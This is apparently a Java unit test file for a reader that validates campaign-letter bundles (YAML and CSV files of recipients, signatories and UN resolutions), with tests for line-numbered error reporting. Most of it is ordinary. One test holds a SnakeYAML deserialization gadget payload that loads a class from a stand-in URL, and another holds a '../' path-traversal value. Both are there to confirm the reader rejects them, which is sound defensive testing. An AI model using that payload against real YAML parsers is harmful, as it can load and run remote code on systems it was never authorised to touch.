package org.appeal.store.bundle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.assertj.core.api.Assertions.tuple;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import org.appeal.domain.CampaignData;
import org.appeal.domain.Recipient;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BundleReaderProblemsTest {
    @TempDir
    Path dir;

    @Test
    void fixtureIsValid() throws BundleException {
        CampaignData data = new BundleReader().read(new FixtureBundle().writeTo(dir));

        assertThat(data.campaign().id()).isEqualTo("test-campaign");
        // An older bundle without target_state reads as a campaign without one.
        assertThat(data.campaign().targetState()).isEmpty();
        assertThat(data.recipients().get(0).addressLines()).containsExactly("1 Example Street", "Exampleville");
        assertThat(data.signatories().all()).hasSize(2);
    }

    @Test
    void reportsEveryProblemOfEveryFileInOneException() {
        new FixtureBundle()
                .text("campaign.yaml", """
                        format: 2
                        id: test-campaign
                        title: "Made-up campaign for tests"
                        language: en
                        letter:
                          subject: "A made-up subject"
                          date: 2030-13-45
                          signatories_as_of: 2030-01-10
                          template: letter.html.vm
                          body: missing.md
                        """)
                .text("recipients.csv", """
                        id,role,position,form_of_address,name,title,office,address,fax,email
                        alpha,TO,1,,Alpha Example,,,"1 Example Street
                        Exampleville",,
                        beta,BCC,x,,,,,,,
                        """)
                .text("signatories.csv", """
                        id,name,position,name
                        foo-org,Foo Organisation,1,Foo again
                        """)
                .text("resolutions.csv", """
                        id,symbol,body,session,adopted_on,title,adoption,source
                        x-res-1,X/RES/1,GA,seventy,2030-02-30,,MAYBE,
                        """)
                .text("sponsorships.csv", """
                        id,state,body,year,date,resolution_symbol,cosponsored,source
                        exl-hrc,Exampleland,HRC,,,,yes,
                        exl-ga-2030,Exampleland,GA,2030,2031-12-01,,yes,
                        ,Exampleland,GA,2030,,,maybe,
                        """)
                .writeTo(dir);

        BundleException e = readFails();

        assertThat(e.problems()).extracting(BundleProblem::file, BundleProblem::line, BundleProblem::field)
                .containsExactly(
                        tuple("campaign.yaml", 1L, "format"),
                        tuple("campaign.yaml", 7L, "letter.date"),
                        tuple("campaign.yaml", 10L, "letter.body"),
                        tuple("recipients.csv", 4L, "role"),
                        tuple("recipients.csv", 4L, "position"),
                        tuple("recipients.csv", 4L, "name"),
                        tuple("signatories.csv", 1L, "name"),
                        tuple("signatories.csv", 1L, "kind"),
                        tuple("resolutions.csv", 2L, "session"),
                        tuple("resolutions.csv", 2L, "adopted_on"),
                        tuple("resolutions.csv", 2L, "adoption"),
                        tuple("sponsorships.csv", 2L, "year"),
                        tuple("sponsorships.csv", 3L, "date"),
                        tuple("sponsorships.csv", 4L, "id"),
                        tuple("sponsorships.csv", 4L, "cosponsored"));
        assertThat(e.getMessage().lines()).hasSize(15).contains(
                "campaign.yaml:1: format: unknown format version '2' (this version reads 1)",
                "campaign.yaml:10: letter.body: file 'missing.md' does not exist in the bundle folder",
                "recipients.csv:4: role: unknown value 'BCC' (expected one of TO, CC)",
                "recipients.csv:4: position: not a whole number: 'x'",
                "signatories.csv:1: name: duplicate column (columns 2 and 4)",
                "signatories.csv:1: kind: required column is missing",
                "resolutions.csv:2: adopted_on: not a date in the form yyyy-MM-dd: '2030-02-30'",
                "sponsorships.csv:3: date: date 2031-12-01 is not in year 2030",
                "sponsorships.csv:4: cosponsored: expected yes or no: 'maybe'");
    }

    @Test
    void malformedUtf8NamesFileAndLine() {
        String latin1 = "id,kind,position,name,acronym,title,country,signed_on,withdrawn_on\n"
                + "foo-org,ORGANISATION,1,Foo Organisation,FOO,,,,\n"
                + "cadal,ORGANISATION,2,Centro para Am\u00e9rica Latina,CADAL,,,,\n";
        new FixtureBundle()
                .bytes("signatories.csv", latin1.getBytes(StandardCharsets.ISO_8859_1))
                .bytes("letter.md", concat("Dear Example,\n\nTruncated: ".getBytes(StandardCharsets.UTF_8),
                        new byte[] {(byte) 0xE2, (byte) 0x80}, "\n".getBytes(StandardCharsets.UTF_8)))
                .writeTo(dir);

        BundleException e = readFails();

        assertThat(e.problems()).extracting(BundleProblem::file, BundleProblem::line)
                .containsExactly(tuple("letter.md", 3L), tuple("signatories.csv", 3L));
        assertThat(e.problems()).allSatisfy(p -> assertThat(p.message()).contains("not valid UTF-8"));
    }

    @Test
    void duplicateIdReportsEveryLineItIsOn() {
        new FixtureBundle().text("signatories.csv", """
                id,kind,position,name,acronym,title,country,signed_on,withdrawn_on
                csw,ORGANISATION,1,Made-up Solidarity,,,,,
                other,ORGANISATION,2,Other Made-up Group,,,,,
                csw,ORGANISATION,3,Made-up Solidarity Again,,,,,
                """).writeTo(dir);

        BundleException e = readFails();

        assertThat(e.problems()).extracting(BundleProblem::file, BundleProblem::line, BundleProblem::field)
                .containsExactly(tuple("signatories.csv", 2L, "id"), tuple("signatories.csv", 4L, "id"));
        assertThat(e.problems()).allSatisfy(p -> assertThat(p.message()).isEqualTo("duplicate id 'csw' (lines 2, 4)"));
    }

    @Test
    void lineNumbersCountQuotedLineBreaksAndBlankLines() {
        new FixtureBundle().text("recipients.csv", """
                id,role,position,form_of_address,name,title,office,address,fax,email
                alpha,TO,1,,Alpha Example,,,"Line one
                Line two
                Line three",,

                beta,XX,2,,Beta Example,,,,,
                """).writeTo(dir);

        assertThat(readFails().problems()).extracting(BundleProblem::file, BundleProblem::line, BundleProblem::field)
                .containsExactly(tuple("recipients.csv", 6L, "role"));
    }

    @Test
    void everyMissingRequiredFileIsReported() {
        BundleException e = readFails();

        // resolutions.csv and sponsorships.csv may be left out, like sources.csv: absent means no rows.
        assertThat(e.problems()).extracting(BundleProblem::file).containsExactly("campaign.yaml",
                "recipients.csv", "signatories.csv");
        assertThat(e.problems()).allSatisfy(p -> assertThat(p.message()).isEqualTo("file is missing"));
    }

    @Test
    void bomAndWindowsLineEndingsAreTolerated() throws BundleException {
        String crlf = "id,role,position,form_of_address,name,title,office,address,fax,email\r\n"
                + "alpha,TO,,,Alpha Example,,,\"1 Example Street\r\nExampleville\",,\r\n"
                + "beta,CC,,,Beta Example,,,,,\r\n";
        new FixtureBundle()
                .bytes("recipients.csv", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                        crlf.getBytes(StandardCharsets.UTF_8)))
                .text("letter.md", "Dear Example,\r\n\r\nMade up.\r\n")
                .writeTo(dir);

        CampaignData data = new BundleReader().read(dir);

        assertThat(data.recipients()).extracting(Recipient::id, Recipient::position)
                .containsExactly(tuple("alpha", 1), tuple("beta", 2));
        assertThat(data.recipients().get(0).addressLines()).containsExactly("1 Example Street", "Exampleville");
        assertThat(data.letter().body()).isEqualTo("Dear Example,\n\nMade up.\n");
    }

    @Test
    void headerMayOmitOptionalColumnsInAnyOrderButNotAddUnknownOnes() throws Exception {
        new FixtureBundle().text("signatories.csv", """
                name,kind,id
                Foo Organisation,ORGANISATION,foo-org
                """).writeTo(dir);
        assertThat(new BundleReader().read(dir).signatories().all().get(0).position()).isEqualTo(1);

        new FixtureBundle().text("signatories.csv", """
                name,kind,id,website
                Foo Organisation,ORGANISATION,foo-org,example.org
                """).writeTo(dir);
        assertThat(readFails().problems()).extracting(BundleProblem::file, BundleProblem::line, BundleProblem::field)
                .containsExactly(tuple("signatories.csv", 1L, "website"));
    }

    @Test
    void rowWithWrongNumberOfValuesIsReported() {
        new FixtureBundle().text("resolutions.csv", """
                id,symbol,body,session,adopted_on,title,adoption,source
                x-res-1,X/RES/1,GA,1
                """).writeTo(dir);

        assertThat(readFails().problems()).singleElement().satisfies(p -> {
            assertThat(p.file()).isEqualTo("resolutions.csv");
            assertThat(p.line()).isEqualTo(2);
            assertThat(p.message()).isEqualTo("row has 4 values but the header has 8 columns");
        });
    }

    @Test
    void unclosedQuoteIsReportedAndOtherFilesAreStillChecked() {
        new FixtureBundle()
                .text("recipients.csv", """
                        id,role,position,form_of_address,name,title,office,address,fax,email
                        alpha,TO,1,,Alpha Example,,,,,
                        beta,CC,2,,"Beta Example,,,,,
                        """)
                .text("sponsorships.csv", """
                        id,state,body,year,date,resolution_symbol,cosponsored,source
                        exl-ga-2029,Exampleland,UNGA,2029,,,yes,
                        """)
                .writeTo(dir);

        assertThat(readFails().problems()).extracting(BundleProblem::file, BundleProblem::line, BundleProblem::field)
                .containsExactly(tuple("recipients.csv", 3L, ""), tuple("sponsorships.csv", 2L, "body"));
    }

    @Test
    void campaignYamlKeysAreCheckedWithTheirLines() {
        new FixtureBundle().text("campaign.yaml", """
                format: 1
                id: test-campaign
                title: "Made-up campaign for tests"
                id: another-id
                letter:
                  subject: "A made-up subject"
                  signatories_asof: 2030-01-10
                  body: ../outside.md
                """).writeTo(dir);

        assertThat(readFails().getMessage().lines()).containsExactly(
                "campaign.yaml:4: id: duplicate key (first on line 2)",
                "campaign.yaml:5: letter.date: required value is missing",
                "campaign.yaml:7: letter.signatories_asof: unknown key (expected subject, date, signatories_as_of,"
                        + " template, body, citations, citation_style, bibliography, addressing, language, words)",
                "campaign.yaml:8: letter.body: '../outside.md' points outside the bundle folder");
    }

    @Test
    void yamlSyntaxErrorGivesItsLine() {
        new FixtureBundle().text("campaign.yaml", """
                format: 1
                id: test-campaign
                title: "unclosed
                letter: [
                """).writeTo(dir);

        assertThat(readFails().problems()).singleElement().satisfies(p -> {
            assertThat(p.file()).isEqualTo("campaign.yaml");
            assertThat(p.line()).isEqualTo(5);
            assertThat(p.message()).isEqualTo(
                    "not valid YAML: while scanning a quoted scalar on line 3: found unexpected end of stream");
        });
    }

    @Test
    void yamlTagsCannotConstructObjects() {
        new FixtureBundle().text("campaign.yaml", """
                format: 1
                id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                letter:
                  date: 2030-01-15
                """).writeTo(dir);

        assertThat(readFails().getMessage()).isEqualTo(
                "campaign.yaml:2: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
    }

    @Test
    void evidenceMustQuoteASourceOfTheBundleUnderAKeyOfItsOwn() {
        new FixtureBundle().text("sources.csv", "id,title,text_file\nsrc-1,A made-up source,sources/missing.txt\n")
                .text("evidence.csv", "key,source_id,quote,pinpoint_unit,pinpoint_value\n"
                        + "q-1,src-2,Some words,,\nsrc-1,src-1,Other words,,\nq 3,src-1,More,LINE,2\nq-4,src-1,Words,PARAGRAPH,\n")
                .writeTo(dir);

        assertThat(readFails().getMessage().lines()).containsExactly(
                "sources.csv:2: text_file: file 'sources/missing.txt' does not exist in the bundle folder",
                "evidence.csv:2: source_id: no source 'src-2' in sources.csv",
                "evidence.csv:3: key: 'src-1' is also a source's id; [@src-1] must mean one thing",
                "evidence.csv:4: pinpoint_unit: unknown value 'LINE' (expected one of PARAGRAPH, PAGE, SECTION)",
                "evidence.csv:4: key: 'q 3' cannot be cited as [@q 3]: a key is letters, digits and _ - . : / inside,"
                        + " starting and ending with a letter, digit or _",
                "evidence.csv:5: pinpoint_value: required value is empty when pinpoint_unit is set");
    }

    @Test
    void furtherLettersAreNamedAndEachNeedsItsDateAndBody() {
        new FixtureBundle().text("campaign.yaml", """
                format: 1
                id: made-up-2030
                letter:
                  date: 2030-01-15
                  citations: sidenotes
                letters:
                  briefing:
                    body: briefing.md
                  Letter 2:
                    date: 2030-01-16
                """).writeTo(dir);

        assertThat(readFails().getMessage().lines()).containsExactly(
                "campaign.yaml:5: letter.citations: unknown value 'sidenotes' (expected one of links, footnotes, endnotes)",
                "campaign.yaml:7: letters.briefing.date: required value is missing",
                "campaign.yaml:8: letters.briefing.body: file 'briefing.md' does not exist in the bundle folder",
                "campaign.yaml:9: letters.Letter 2: a letter's name is lower-case letters, digits, '-' and '_', and"
                        + " not 'letter'");
    }

    @Test
    void folderThatDoesNotExist() {
        BundleException e = catchThrowableOfType(BundleException.class,
                () -> new BundleReader().read(dir.resolve("nowhere")));

        assertThat(e.problems()).singleElement()
                .satisfies(p -> assertThat(p.message()).isEqualTo("bundle folder does not exist"));
    }

    private BundleException readFails() {
        BundleException e = catchThrowableOfType(BundleException.class, () -> new BundleReader().read(dir));
        assertThat(e).as("reading should fail").isNotNull();
        return e;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
